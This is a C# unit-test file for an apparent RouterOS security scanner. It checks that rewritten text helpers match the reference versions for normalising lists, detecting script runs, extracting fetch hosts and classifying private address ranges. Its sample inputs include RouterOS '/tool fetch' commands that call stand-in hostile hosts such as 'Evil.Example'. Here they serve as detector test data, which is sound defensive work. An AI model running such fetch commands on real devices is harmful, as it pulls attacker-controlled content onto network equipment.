using System.Text;
using FlaxGuard.Engine.Probes.RouterOs;
using FlaxGuard.Engine.Text;

namespace FlaxGuard.Engine.Tests.RouterOs;

/// <summary>
/// The in-place versions of the RouterOS text helpers give what the copying versions they replaced gave (kept here
/// as the reference), on ordinary and awkward input alike.
/// </summary>
[TestClass]
public sealed class RouterOsTextEquivalenceTests
{
    private static readonly string[] Lists =
    [
        "", ",", " , ,", "10.0.0.0/8", "B,a,b, A ,a", "100.64.88.0/24,fd00:64:88::/64,127.0.0.0/8", " x ", "x,,y", "\u00A0a\u00A0,b\t", "Z" + new string('q', 200),
    ];

    private static string[] ReferenceNormalizeList(string raw)
    {
        var parts = raw.Split(',');
        var kept = new List<string>();
        foreach (var part in parts)
        {
            var item = Ordinal.ToLowerAscii(FactText.Clean(part, 128));
            if (item.Length == 0) continue;
            var at = 0;
            while (at < kept.Count && Ordinal.Compare(kept[at], item) < 0) at++;
            if (at < kept.Count && kept[at] == item) continue;
            kept.Insert(at, item);
        }
        return kept.ToArray();
    }

    [TestMethod]
    public void NormalizeList_AndAppendList_MatchTheSplittingVersion()
    {
        foreach (var raw in Lists)
        {
            var expected = ReferenceNormalizeList(raw);
            var actual = RouterOsText.NormalizeList(raw);
            CollectionAssert.AreEqual(expected, actual, raw);
            var text = new TextBuilder(4);
            RouterOsText.AppendList(text, actual);
            Assert.AreEqual(string.Join(",", expected), text.ToString());
        }
    }

    private static readonly string[] Scripts =
    [
        "", "backup", "\"backup\"", "/system script run backup", "/system/script/run backup;", "/system script run \"backup\"", "script run number=backup]",
        "script run backupx", "script run backup script run backup", "  /system   script\r\n run   backup  ", "/tool fetch url=\"HTTP://Evil.Example:8080/x\"",
        ":local u \"https://[2001:DB8::1]:443/p\"; /tool fetch url=$u", "/Tool Fetch url=$x", "http://user:pw@Host.Example/a", "nothing here",
        "script run a script run a", "https://a.example http://b.example",
    ];

    private static string ReferenceCollapse(string text)
    {
        var sb = new StringBuilder();
        var pending = false;
        foreach (var c in text)
        {
            if (c is ' ' or '\t' or '\r' or '\n' or '\f' or '\v') { pending = sb.Length > 0; continue; }
            if (pending) { sb.Append(' '); pending = false; }
            sb.Append(c);
        }
        return sb.ToString();
    }

    private static bool ReferenceRunsScript(string onEvent, string name)
    {
        if (name.Length == 0) return false;
        var text = ReferenceCollapse(onEvent);
        if (text == name || text == "\"" + name + "\"") return true;
        string[] forms = ["script run " + name, "script/run " + name, "script run \"" + name + "\"", "script/run \"" + name + "\"", "script run number=" + name, "script/run number=" + name];
        foreach (var form in forms)
        {
            var at = 0;
            while ((at = RouterOsText.Find(text, form, at)) >= 0)
            {
                var end = at + form.Length;
                if (end == text.Length || text[end] is ' ' or ';' or ']' or '}' or ')' or '"') return true;
                at = end;
            }
        }
        return false;
    }

    [TestMethod]
    public void CollapseBlanks_RunsScript_AndFetchHost_MatchTheCopyingVersions()
    {
        foreach (var script in Scripts)
        {
            Assert.AreEqual(ReferenceCollapse(script), RouterOsText.CollapseBlanks(script), script);
            foreach (var name in new[] { "backup", "a", "b\"x", "" })
            {
                Assert.AreEqual(ReferenceRunsScript(script, name), RouterOsText.RunsScript(script, name), script + " / " + name);
                Assert.AreEqual(ReferenceRunsScript(script, name), RouterOsText.RunsScriptCollapsed(RouterOsText.CollapseBlanks(script), name), script + " / " + name);
            }
            Assert.AreEqual(RouterOsText.FetchHost(script), RouterOsText.FetchHostOfCollapsed(RouterOsText.CollapseBlanks(script)), script);
        }
        Assert.AreEqual("evil.example", RouterOsText.FetchHost(Scripts[10]));
        Assert.AreEqual("[2001:db8::1]", RouterOsText.FetchHost(Scripts[11]));
        Assert.AreEqual("unknown", RouterOsText.FetchHost(Scripts[12]));
        Assert.AreEqual("host.example", RouterOsText.FetchHost(Scripts[13]));
        Assert.IsNull(RouterOsText.FetchHost(Scripts[14]));
        Assert.AreEqual("a.example", RouterOsText.FetchHost(Scripts[16]));
    }

    private static bool ReferenceIsLocal(string entry)
    {
        if (entry.Length == 0) return false;
        var address = entry;
        var length = -1;
        var slash = entry.IndexOf('/');
        if (slash >= 0)
        {
            address = entry[..slash];
            length = Number(entry[(slash + 1)..], 128);
            if (length < 0) return false;
        }
        if (address.Contains(':'))
        {
            var l6 = length < 0 ? 128 : length;
            if (l6 > 128) return false;
            if (address == "::1") return l6 == 128;
            if (address.StartsWith("::", StringComparison.Ordinal)) return false;
            var first = address.Split(':')[0];
            if (first.Length is 0 or > 4 || !first.All(Uri.IsHexDigit)) return false;
            var hextet = Convert.ToInt32(first, 16);
            if ((hextet & 0xFE00) == 0xFC00) return l6 >= 7;
            if ((hextet & 0xFFC0) == 0xFE80) return l6 >= 10;
            return false;
        }
        var parts = address.Split('.');
        if (parts.Length != 4) return false;
        uint value = 0;
        foreach (var p in parts)
        {
            var octet = Number(p, 255);
            if (octet < 0) return false;
            value = (value << 8) | (uint)octet;
        }
        if (length < 0) length = 32;
        if (length > 32) return false;
        (uint Net, int Len)[] local = [(0x0A000000, 8), (0xAC100000, 12), (0xC0A80000, 16), (0x64400000, 10), (0xA9FE0000, 16), (0x7F000000, 8)];
        foreach (var (net, len) in local)
        {
            if (length < len) continue;
            if ((value & (0xFFFFFFFF << (32 - len))) == net) return true;
        }
        return false;
    }

    private static int Number(string text, int max)
    {
        if (text.Length is 0 or > 3 || !text.All(char.IsAsciiDigit)) return -1;
        var n = int.Parse(text);
        return n > max ? -1 : n;
    }

    [TestMethod]
    public void IsLocal_MatchesTheSplittingVersion()
    {
        string[] entries =
        [
            "10.1.2.3", "10.0.0.0/8", "10.0.0.0/7", "172.16.0.0/12", "172.32.0.1", "192.168.1.0/24", "100.64.88.0/24", "100.128.0.1", "127.0.0.0/8",
            "169.254.1.1", "8.8.8.8", "0.0.0.0/0", "1.2.3", "1.2.3.4.5", "1.2.3.4.", "256.1.1.1", "1.2.3.4/33", "1.2.3.4/", "1.2.3.4/x", "1.2.3.4/8/9",
            "::1", "::1/128", "::1/127", "::", "fd00:64:88::/64", "fc00::/6", "fe80::1", "fe80::/9", "FE80::/10", "2001:db8::/32", "fd00x::1", "12345::1",
            "fd00::/129", "", "a.b.c.d", "10.0.0.1/08",
        ];
        foreach (var entry in entries) Assert.AreEqual(ReferenceIsLocal(entry), RouterOsAddressScope.IsLocal(entry), entry);
    }
}
